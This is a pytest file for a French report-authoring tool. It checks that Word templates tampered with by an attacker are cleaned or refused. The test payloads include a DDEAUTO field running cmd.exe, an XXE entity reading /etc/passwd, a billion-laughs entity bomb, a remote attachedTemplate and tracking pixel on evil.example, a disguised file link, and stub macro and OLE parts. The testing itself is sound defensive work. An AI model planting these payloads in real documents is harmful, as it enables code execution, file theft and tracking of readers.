"""A Word template handed over by a colleague carries nothing hostile into the report.

Each hostile template is the real default template (``authoring-tui template``)
edited with ``zipfile`` as an attacker would; the real CLI (and once the export
screen) exports the sample with it. The answer is either a clean report (no
outside link, no macro, no ActiveX, no embedded object, no customXml, no
attachedTemplate, every content type plain) with a French warning, or a French
refusal (exit 2) naming the template, with no output file.
"""

from __future__ import annotations

import json
import os
import re
import struct
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import docx
import pytest
from docx.shared import Pt
from lxml import etree
from textual.widgets import Static

from authoring_tui.cli.main import main
from authoring_tui.tui.screens.export import ExportScreen

from .tui.helpers import dashboard_loaded, make_app, wait_for

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PR = "http://schemas.openxmlformats.org/package/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
RT = R + "/"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EVIL = "https://evil.example"
HEADER_NS = (
    f'xmlns:w="{W}" xmlns:r="{R}" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
)


def png() -> bytes:
    """A real 1×1 PNG, red."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
        + chunk(b"IEND", b"")
    )


class Template:
    """A template's parts in memory, edited part by part, then zipped again."""

    def __init__(self, source: Path) -> None:
        with zipfile.ZipFile(source) as archive:
            self.parts = {info.filename: archive.read(info) for info in archive.infolist()}

    def xml(self, name: str) -> etree._Element:
        return etree.fromstring(self.parts[name])

    def put_xml(self, name: str, root: etree._Element) -> None:
        self.parts[name] = etree.tostring(root, xml_declaration=True, encoding="UTF-8")

    def add(self, name: str, data: bytes, content_type: str | None = None) -> None:
        self.parts[name] = data
        if content_type is not None:
            self.set_type(name, content_type)

    def set_type(self, name: str, content_type: str) -> None:
        types = self.xml("[Content_Types].xml")
        for old in types.findall(f"{{{CT}}}Override"):
            if old.get("PartName") == "/" + name:
                types.remove(old)
        etree.SubElement(types, f"{{{CT}}}Override", PartName="/" + name, ContentType=content_type)
        self.put_xml("[Content_Types].xml", types)

    def relate(
        self, source: str, rel_id: str, kind: str, target: str, external: bool = False
    ) -> None:
        folder, base = source.rsplit("/", 1) if "/" in source else ("", source)
        rels_name = f"{folder}/_rels/{base}.rels" if folder else "_rels/.rels"
        if rels_name in self.parts:
            rels = self.xml(rels_name)
        else:
            rels = etree.Element(f"{{{PR}}}Relationships", nsmap={None: PR})
        rel = etree.SubElement(rels, f"{{{PR}}}Relationship", Id=rel_id, Type=kind, Target=target)
        if external:
            rel.set("TargetMode", "External")
        self.put_xml(rels_name, rels)

    def add_header(self, body: str, rels: list[tuple[str, str, str, bool]]) -> None:
        """An even-page header holding ``body``, referenced by the section and shown
        (the export rewrites the default and first-page headers, not this one)."""
        self.add(
            "word/header7.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><w:hdr {HEADER_NS}>{body}</w:hdr>'.encode(),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml",
        )
        for rel_id, kind, target, external in rels:
            self.relate("word/header7.xml", rel_id, kind, target, external)
        self.relate("word/document.xml", "rIdHeader7", RT + "header", "header7.xml")
        document = self.xml("word/document.xml")
        section = document.find(f"{{{W}}}body/{{{W}}}sectPr")
        reference = etree.Element(f"{{{W}}}headerReference")
        reference.set(f"{{{W}}}type", "even")
        reference.set(f"{{{R}}}id", "rIdHeader7")
        section.insert(0, reference)
        self.put_xml("word/document.xml", document)
        settings = self.xml("word/settings.xml")
        settings.insert(1, etree.Element(f"{{{W}}}evenAndOddHeaders"))
        self.put_xml("word/settings.xml", settings)

    def save(self, target: Path) -> Path:
        with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in self.parts.items():
                archive.writestr(name, data)
        return target


def picture(embed: str, link: str = "") -> str:
    link_attribute = f' r:link="{link}"' if link else ""
    return (
        "<w:p><w:r><w:t>Charte de la Métropole</w:t></w:r><w:r><w:drawing><wp:inline>"
        '<wp:extent cx="914400" cy="914400"/><wp:docPr id="1" name="Logo"/><a:graphic>'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="logo.png"/><pic:cNvPicPr/></pic:nvPicPr>'
        f'<pic:blipFill><a:blip r:embed="{embed}"{link_attribute}/><a:stretch><a:fillRect/>'
        '</a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/>'
        '<a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr>'
        "</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )


# -- The hostile edits ------------------------------------------------------------------


def remote_attached_template(t: Template) -> None:
    settings = t.xml("word/settings.xml")
    attached = etree.Element(f"{{{W}}}attachedTemplate")
    attached.set(f"{{{R}}}id", "rIdRemote")
    settings.insert(1, attached)
    etree.SubElement(settings, f"{{{W}}}linkStyles")
    t.put_xml("word/settings.xml", settings)
    t.relate("word/settings.xml", "rIdRemote", RT + "attachedTemplate", f"{EVIL}/t.dotm", True)


def external_image_link(t: Template) -> None:
    t.add("word/media/logo.png", png(), "image/png")
    link = '<w:p><w:hyperlink r:id="rIdSite"><w:r><w:t>Site</w:t></w:r></w:hyperlink></w:p>'
    t.add_header(
        picture("rIdLogo", link="rIdPixel") + link,
        [
            ("rIdLogo", RT + "image", "media/logo.png", False),
            ("rIdPixel", RT + "image", f"{EVIL}/pixel.png", True),
            ("rIdSite", RT + "hyperlink", "file:///etc/passwd\u202etxt.exe", True),
        ],
    )


def macros(t: Template) -> None:
    t.add(
        "word/vbaProject.bin",
        b"\xd0\xcf\x11\xe0 AutoOpen Shell",
        "application/vnd.ms-office.vbaProject",
    )
    t.add("word/vbaData.xml", b'<?xml version="1.0"?><wne:vbaSuppData xmlns:wne="urn:x"/>')
    t.relate(
        "word/document.xml",
        "rIdVba",
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "vbaProject.bin",
    )
    t.relate(
        "word/vbaProject.bin",
        "rIdData",
        "http://schemas.microsoft.com/office/2006/relationships/wordVbaData",
        "vbaData.xml",
    )
    t.set_type("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")


def custom_xml(t: Template) -> None:
    t.add("customXml/item1.xml", f"<secret>{EVIL}</secret>".encode(), "application/xml")
    t.relate("word/document.xml", "rIdCustom", RT + "customXml", "../customXml/item1.xml")


def activex(t: Template) -> None:
    t.add(
        "word/activeX/activeX1.xml",
        b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"'
        b' ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>',
        "application/vnd.ms-office.activeX+xml",
    )
    t.add_header(
        '<w:p><w:r><w:object><w:control r:id="rIdAx" w:name="CheckBox1"/></w:object></w:r></w:p>',
        [("rIdAx", RT + "control", "activeX/activeX1.xml", False)],
    )


def embedded_object(t: Template) -> None:
    """An OLE package in the header, shown by its icon; the icon also names an
    outside copy of itself (``o:href``)."""
    t.add("word/media/icon.png", png(), "image/png")
    t.add(
        "word/embeddings/oleObject1.bin",
        b"\xd0\xcf\x11\xe0 payload",
        "application/vnd.openxmlformats-officedocument.oleObject",
    )
    t.add_header(
        '<w:p><w:r><w:object><v:shape id="_x0000_i1025" style="width:10pt;height:10pt">'
        f'<v:imagedata r:id="rIdIcon" o:href="{EVIL}/icon.emf"/></v:shape>'
        '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" ObjectID="_1"'
        ' r:id="rIdOle"/></w:object></w:r></w:p>',
        [
            ("rIdIcon", RT + "image", "media/icon.png", False),
            ("rIdOle", RT + "oleObject", "embeddings/oleObject1.bin", False),
        ],
    )


def dde_field_in_header(t: Template) -> None:
    t.add_header(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText>'
        '</w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>'
        '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
        [],
    )


CLEANED: dict[str, tuple[Callable[[Template], None], list[str]]] = {
    "remote attachedTemplate": (remote_attached_template, ["attachedTemplate", f"{EVIL}/t.dotm"]),
    "external image link": (
        external_image_link,
        ["extérieurs", f"{EVIL}/pixel.png", "file:///etc/passwd%E2%80%AEtxt.exe"],
    ),
    "vbaProject.bin": (
        macros,
        ["macros", "word/vbaProject.bin", "word/vbaData.xml", "macroEnabled"],
    ),
    "customXml": (custom_xml, ["customXml/item1.xml"]),
    "ActiveX": (activex, ["ActiveX", "word/activeX/activeX1.xml"]),
    "embedded object": (
        embedded_object,
        ["OLE", "word/embeddings/oleObject1.bin", f"{EVIL}/icon.emf"],
    ),
    "DDEAUTO field": (dde_field_in_header, ["champ DDEAUTO", "word/header7.xml"]),
}


@pytest.fixture
def default_template(tmp_path: Path) -> Path:
    assert main(["template", str(tmp_path / "charte")]) == 0
    return tmp_path / "charte" / "modele-rapport.docx"


def export(workspace: Path, template: Path, output: Path) -> int:
    return main(
        [
            "export",
            "--workspace",
            str(workspace),
            "--template",
            str(template),
            "--output",
            str(output),
        ]
    )


@pytest.mark.parametrize("attack", list(CLEANED))
def test_a_hostile_template_gives_a_clean_report_and_says_what_was_left_out(
    attack: str,
    default_template: Path,
    workspace_dir: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    edit, expected = CLEANED[attack]
    template = Template(default_template)
    edit(template)
    hostile = template.save(tmp_path / "charte-piegee.docx")
    output = tmp_path / "rapport.docx"

    assert export(workspace_dir, hostile, output) == 0

    err = capsys.readouterr().err.replace("\n", "")
    assert "Avertissement" in err and "« charte-piegee.docx »" in err
    assert "non repris dans le rapport" in err
    for text in expected:
        assert text in err
    assert_clean(output)
    docx.Document(str(output))  # and python-docx reads it back


def assert_clean(path: Path) -> None:
    """Nothing of what a template may not bring, and no reference left dangling."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for name, data in parts.items():
        lowered = name.lower()
        for banned in ("vbaproject", "vbadata", "customxml", "activex", "embeddings"):
            assert banned not in lowered, name
        assert b"evil.example" not in data, name
        assert b"attachedTemplate" not in data, name
        if name.endswith(".xml"):
            instructions = etree.fromstring(data).iter(f"{{{W}}}instrText", f"{{{W}}}fldSimple")
            assert not any("DDE" in (i.text or i.get(f"{{{W}}}instr", "")) for i in instructions)
    for name, data in parts.items():
        if name.endswith(".rels"):
            rels = etree.fromstring(data)
            assert all(rel.get("TargetMode") != "External" for rel in rels), name
    types = etree.fromstring(parts["[Content_Types].xml"])
    content_types = [element.get("ContentType", "") for element in types]
    assert not any("macroEnabled" in content_type for content_type in content_types)
    assert MAIN in content_types
    assert_no_dangling_reference(parts)


def assert_no_dangling_reference(parts: dict[str, bytes]) -> None:
    for name, data in parts.items():
        if not name.endswith(".xml") or name == "[Content_Types].xml":
            continue
        folder, base = name.rsplit("/", 1) if "/" in name else ("", name)
        rels_name = f"{folder}/_rels/{base}.rels" if folder else f"_rels/{base}.rels"
        ids = {rel.get("Id") for rel in etree.fromstring(parts.get(rels_name, b"<x/>"))}
        for element in etree.fromstring(data).iter(etree.Element):
            for attribute, value in element.attrib.items():
                if attribute.startswith(f"{{{R}}}"):
                    assert value in ids, f"{name}: {element.tag} {attribute}={value}"


# -- Refused outright ---------------------------------------------------------------------

BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + f'<!ENTITY x "&lol9;">]><w:styles xmlns:w="{W}"><w:style>&x;</w:style></w:styles>'.encode()
)
XXE = (
    b'<?xml version="1.0"?><!DOCTYPE w:styles [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    + f'<w:styles xmlns:w="{W}"><w:style>&x;</w:style></w:styles>'.encode()
)
MALFORMED = f'<?xml version="1.0"?><w:styles xmlns:w="{W}"><w:style></w:styles>'.encode()


def with_styles(data: bytes) -> Callable[[Template], None]:
    def edit(t: Template) -> None:
        t.parts["word/styles.xml"] = data

    return edit


def without_document(t: Template) -> None:
    del t.parts["word/document.xml"]


def zero_bomb(t: Template) -> None:
    t.parts["word/media/zeros.png"] = bytes(4 * 1024 * 1024)  # under 5 MB, 1000:1


def many_parts(t: Template) -> None:
    for number in range(200):
        t.parts[f"word/media/image{number}.png"] = png()


REFUSED: dict[str, tuple[Callable[[Template], None], list[str]]] = {
    "entity bomb": (with_styles(BOMB), ["word/styles.xml", "DOCTYPE"]),
    "XXE": (with_styles(XXE), ["word/styles.xml", "DOCTYPE"]),
    "DOCTYPE in UTF-16": (
        with_styles(XXE.decode().replace('1.0"', '1.0" encoding="UTF-16"').encode("utf-16")),
        ["word/styles.xml", "DOCTYPE"],
    ),
    "malformed styles.xml": (
        with_styles(MALFORMED),
        ["word/styles.xml", "XML bien formé", "ligne 1"],
    ),
    "no word/document.xml": (without_document, ["word/document.xml"]),
    "zip bomb": (zero_bomb, ["word/media/zeros.png", "bombe de décompression"]),
    "too many parts": (many_parts, ["limite : 200"]),
}


@pytest.mark.parametrize("attack", list(REFUSED))
def test_a_template_that_cannot_be_used_safely_is_refused_in_french(
    attack: str,
    default_template: Path,
    workspace_dir: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    edit, expected = REFUSED[attack]
    template = Template(default_template)
    edit(template)
    hostile = template.save(tmp_path / "charte-piegee.docx")
    assert_refused(workspace_dir, hostile, tmp_path, capsys, expected)


def assert_refused(
    workspace: Path,
    template: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    expected: list[str],
) -> None:
    before = sorted(os.listdir(workspace / "exports"))
    output = workspace / "exports" / "rapport.docx"
    assert export(workspace, template, output) == 2
    err = capsys.readouterr().err.replace("\n", "")
    assert "Erreur" in err and template.name in err
    assert "Erreur inattendue" not in err and "Traceback" not in err
    for text in expected:
        assert text in err
    assert not output.exists()
    assert sorted(os.listdir(workspace / "exports")) == before  # no temporary file either


def test_a_file_that_is_not_a_zip_is_refused(
    workspace_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fake = tmp_path / "charte.docx"
    fake.write_text("Ceci n’est pas un document Word.")
    assert_refused(workspace_dir, fake, tmp_path, capsys, ["lisible", "zip"])


def test_a_truncated_template_is_refused(
    default_template: Path, workspace_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    truncated = tmp_path / "charte.docx"
    truncated.write_bytes(default_template.read_bytes()[:-200])
    assert_refused(workspace_dir, truncated, tmp_path, capsys, ["lisible"])


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFO on this platform")
def test_a_fifo_as_template_is_refused_without_blocking(
    workspace_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fifo = tmp_path / "charte.docx"
    os.mkfifo(fifo)
    assert_refused(workspace_dir, fifo, tmp_path, capsys, ["fichier ordinaire"])


# -- Within 10 s and 200 MB ---------------------------------------------------------------

MEASURE = """
import json, resource, subprocess, sys, time
start = time.monotonic()
run = subprocess.run(
    [sys.executable, "-c",
     "import sys; from authoring_tui.cli.main import main; sys.exit(main(sys.argv[1:]))",
     *sys.argv[1:]],
    capture_output=True, text=True, timeout=60,
)
peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
scale = 1024 * 1024 if sys.platform == "darwin" else 1024
print(json.dumps({"code": run.returncode, "err": run.stderr,
                  "seconds": time.monotonic() - start, "megabytes": peak / scale}))
"""


def huge_styles(source: Path, target: Path, megabytes: int) -> Path:
    """The template with a styles.xml of ``megabytes`` MB of spaces: some 300 KB on disk."""
    with (
        zipfile.ZipFile(source) as original,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for info in original.infolist():
            if info.filename != "word/styles.xml":
                new.writestr(info.filename, original.read(info))
        with new.open("word/styles.xml", "w") as stream:
            stream.write(f'<?xml version="1.0"?><w:styles xmlns:w="{W}">'.encode())
            block = b" " * (1024 * 1024)
            for _ in range(megabytes):
                stream.write(block)
            stream.write(b"</w:styles>")
    return target


@pytest.mark.parametrize("attack", ["300 MB styles.xml", "entity bomb"])
def test_a_huge_part_or_an_entity_bomb_is_answered_within_10_s_and_200_mb(
    attack: str, default_template: Path, workspace_dir: Path, tmp_path: Path
) -> None:
    if attack == "entity bomb":
        template = Template(default_template)
        with_styles(BOMB)(template)
        hostile = template.save(tmp_path / "charte-piegee.docx")
    else:
        hostile = huge_styles(default_template, tmp_path / "charte-piegee.docx", 300)
        assert hostile.stat().st_size < 2 * 1024 * 1024
    output = tmp_path / "rapport.docx"
    argv = ["export", "--workspace", str(workspace_dir), "--template", str(hostile)]
    argv += ["--output", str(output)]
    run = subprocess.run(
        [sys.executable, "-c", MEASURE, *argv], capture_output=True, text=True, timeout=120
    )
    measured = json.loads(run.stdout)
    assert measured["code"] == 2, measured["err"]
    assert "charte-piegee.docx" in measured["err"] and "word/styles.xml" in measured["err"]
    assert measured["seconds"] < 10
    assert measured["megabytes"] < 200
    assert not output.exists()


# -- A legitimate restyled template still works -----------------------------------------


def test_a_restyled_template_with_a_header_logo_still_works(
    default_template: Path, workspace_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    restyled = docx.Document(str(default_template))
    restyled.styles["Heading 1"].font.name = "Georgia"
    restyled.styles["Heading 1"].font.size = Pt(26)
    restyled.save(str(default_template))
    template = Template(default_template)
    template.add("word/media/logo.png", png(), "image/png")
    template.add_header(picture("rIdLogo"), [("rIdLogo", RT + "image", "media/logo.png", False)])
    charte = template.save(tmp_path / "charte.docx")
    output = tmp_path / "rapport.docx"

    assert export(workspace_dir, charte, output) == 0

    assert "Avertissement" not in capsys.readouterr().err
    heading = docx.Document(str(output)).styles["Heading 1"]
    assert heading.font.name == "Georgia"
    assert heading.font.size == Pt(26)
    with zipfile.ZipFile(output) as archive:
        images = [archive.read(n) for n in archive.namelist() if n.startswith("word/media/")]
        headers = [archive.read(n) for n in archive.namelist() if n.startswith("word/header")]
        parts = [archive.read(n) for n in archive.namelist() if n.startswith("word/")]
    pictures = [p.read_bytes() for p in (workspace_dir / "medias").glob("*.png")]
    assert sorted(images) == sorted([png(), *pictures])  # the logo, then the sample's charts
    drawing_ids = [i for part in parts for i in re.findall(rb"<wp:docPr id=\"(\d+)\"", part)]
    assert len(drawing_ids) == len(set(drawing_ids)) == 4  # never the logo's id again
    assert sum("Charte de la Métropole".encode() in header for header in headers) == 1
    assert_clean(output)  # the logo's r:embed among them: it points to the PNG


# -- The export screen shows the same warning ---------------------------------------------


async def test_the_export_screen_says_what_the_template_lost(
    default_template: Path, workspace_dir: Path, tmp_path: Path
) -> None:
    template = Template(default_template)
    remote_attached_template(template)
    hostile = template.save(tmp_path / "charte-piegee.docx")
    app = make_app(workspace_dir, "mlegrand")
    async with app.run_test(size=(100, 32)) as pilot:
        await dashboard_loaded(pilot)
        await pilot.press("e")
        await wait_for(pilot, lambda: isinstance(app.screen, ExportScreen))
        dialog = app.screen
        await pilot.click("#export-template")
        await pilot.press(*str(hostile))
        await pilot.click("#export-output")
        await pilot.press(*"exports/essai.docx")
        await pilot.press("ctrl+s")
        result = dialog.query_one("#export-result", Static)
        await wait_for(pilot, lambda: "Document produit" in str(result.render()), timeout=120)
        shown = str(result.render())
    assert "« charte-piegee.docx »" in shown and "attachedTemplate" in shown
    assert f"{EVIL}/t.dotm" in shown
    assert_clean(workspace_dir / "exports" / "essai.docx")
